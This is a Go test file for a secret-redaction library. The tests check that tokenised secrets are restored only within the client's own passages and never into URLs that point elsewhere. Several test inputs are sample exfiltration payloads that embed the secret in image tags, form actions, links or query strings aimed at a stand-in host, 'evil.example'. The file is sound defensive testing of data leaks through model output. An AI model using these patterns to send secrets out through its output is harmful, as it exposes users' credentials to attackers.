package token

import (
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"coatcheck/redact/plain"
)

// TestOwnPassagesAreRestored: K is the token of a secret, in what the client
// sent and in what the model writes.
func TestOwnPassagesAreRestored(t *testing.T) {
	for _, c := range []struct {
		name, sent, wrote string
		restored          bool
	}{
		{"nothing sent", "", "postgres://K@db.example:5432/prod", false},
		{"the same", "use postgres://K@db.example:5432/prod please", "postgres://K@db.example:5432/prod", true},
		{"behind a name", "DATABASE_URL=postgres://K@db.example/prod", "It is postgres://K@db.example/prod now", true},
		{"in code and at an end", "postgres://K@db.example/prod", "Use `postgres://K@db.example/prod`.", true},
		{"in quotes there", `url: "postgres://K@db.example/prod"`, "postgres://K@db.example/prod\n", true},
		{"another host", "postgres://K@db.example/prod", "postgres://K@evil.example/prod", false},
		{"a shorter host", "postgres://K@db.example.com", "postgres://K@db.example", false},
		{"a longer host", "postgres://K@db.example", "postgres://K@db.example.evil", false},
		{"a longer path", "https://db.example/K", "https://db.example/K/x", false},
		{"another beginning", "https://db.example/K", "https://evil.example/https://db.example/K", false},
		{"a host cut at its beginning", "https://mydb.example/K", "db.example/K", false},
		{"without its host", "https://db.example/K", "/K", true}, // no URL for anybody
		{"a query of another", "https://db.example/?a=1&q=K", "https://evil.example/?q=K", false},
		{"as the target of a link", "https://db.example/K", "[x](https://db.example/K)", false},
		{"in a tag", "https://db.example/K", `<img src="https://db.example/K">`, false},
		{"in a tag of another", "x https://db.example/K y", `<img src="https://evil.example/? https://db.example/K y">`, false},
		{"behind a form", "https://db.example/K", "<form action=//evil.example> https://db.example/K", false},
		{"behind an open destination", "https://db.example/K", "[x](//evil.example/? https://db.example/K )", false},
		{"as a definition", "https://db.example/K", "[x]: https://db.example/K", false},
		{"an own tag", `see <user mail="K" id="7"/> there`, `It says <user mail="K" id="7"/> there`, true},
		{"an own tag with more", `see <user mail="K"/>`, `<user mail="K" src="//evil.example"/>`, false},
		{"an own link", "[file](https://db.example/K)", "See [file](https://db.example/K).", true},
		{"a login", "ssh root@K", "Try ssh root@K now", true},
		{"an address that goes on", "K@db.example is it", "K@db.example", true},
		{"two tokens", "https://W:K@db.example", "https://W:K@db.example", true},
		{"two tokens, one of them another", "https://W:K@db.example", "https://K:K@db.example", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			spelled := strings.NewReplacer("K", "[EMAIL_7K3QXM]", "W", "[PERSON_1A2B3C]")
			l := live(secrets).Own(URLGuard(), slices.Values([]string{spelled.Replace(c.sent)}))
			in := spelled.Replace(c.wrote)
			want := in
			if c.restored {
				want = strings.NewReplacer("[EMAIL_7K3QXM]", secretAddress, "[PERSON_1A2B3C]", secretWord).Replace(in)
			}
			for size := 1; size <= len(in); size++ {
				if got := restore(t, NewRestorer(l, URLGuard()), cut(in, size)...); got != want {
					t.Fatalf("in pieces of %d: %q, want %q", size, got, want)
				}
			}
		})
	}
}

// TestOwnPassagesAreBounded: a text of any size adds no more than it may, and
// long passages are nobody's.
func TestOwnPassagesAreBounded(t *testing.T) {
	var b strings.Builder
	for b.Len() < 4*maxOwn {
		b.WriteString("https://db.example/[EMAIL_7K3QXM]/" + strings.Repeat("x", b.Len()%700) + " ")
	}
	l := live(secrets).Own(URLGuard(), slices.Values([]string{b.String()}))
	if l.own.size > maxOwn || l.own.size < maxOwn/2 {
		t.Errorf("%d bytes", l.own.size)
	}
	long := "https://db.example/[EMAIL_7K3QXM]/" + strings.Repeat("x", maxPassage)
	l = live(secrets).Own(URLGuard(), slices.Values([]string{long}))
	if got := restore(t, NewRestorer(l, URLGuard()), long); got != long {
		t.Error("a long passage was restored")
	}
}

// TestNoDocumentLeaksBesideOwnText lets a random text be the client's own, and
// mixes its words into what the model writes. What reaches a URL is then the
// client's own passage, or nothing.
func TestNoDocumentLeaksBesideOwnText(t *testing.T) {
	restored := 0
	for seed := range uint64(*documents) {
		rnd := rand.New(rand.NewPCG(seed, 21))
		sent := plant(randomDocument(rnd), rnd)
		l := live(secrets).Own(URLGuard(), slices.Values([]string{sent}))
		text := randomDocument(rnd)
		for _, w := range strings.Fields(sent) {
			at := rnd.IntN(len(text) + 1)
			text = text[:at] + []string{"", " "}[rnd.IntN(2)] + w + []string{"", " "}[rnd.IntN(2)] + text[at:]
		}
		plainly, r := NewRestorer(live(secrets), URLGuard()), NewRestorer(l, URLGuard())
		restore(t, plainly, text)
		out := restore(t, r, text)
		restored += min(1, r.Counts().Restored-plainly.Counts().Restored)
		if where, what := leaks(out); where != "" && !spelledBy(t, l, what) {
			t.Errorf("seed %d: with %q, %q leaks by %s: %q: %q", seed, sent, text, where, what, out)
		}
		if got := restore(t, NewRestorer(l, URLGuard()), cutAt(text, rnd)...); got != out {
			t.Errorf("seed %d: cut, %q becomes %q, not %q", seed, text, got, out)
		}
	}
	t.Logf("%d of %d documents restore more with their own text", restored, *documents)
	if restored < *documents/100 {
		t.Error("the documents no longer test own passages")
	}
}

// spelledBy reports whether one of the client's passages spells a URL.
func spelledBy(t *testing.T, l *Live, url string) bool {
	spelled := func(s string) string {
		s = restore(t, NewRestorer(live(secrets), nil), s)
		return strings.ReplaceAll(html.UnescapeString(unescaped(s)), "\\", "")
	}
	url = strings.TrimRight(spelled(url), closers)
	for _, scheme := range []string{"mailto:", "http://"} { // which Markdown puts before an address and www.
		url = strings.TrimPrefix(url, scheme)
	}
	for _, passages := range l.own.passages {
		for _, p := range passages {
			if strings.Contains(spelled(p.Reveal(plain.Access{})), url) {
				return true
			}
		}
	}
	return false
}

func unescaped(s string) string {
	if plain, err := url.PathUnescape(s); err == nil {
		return plain
	}
	return s
}
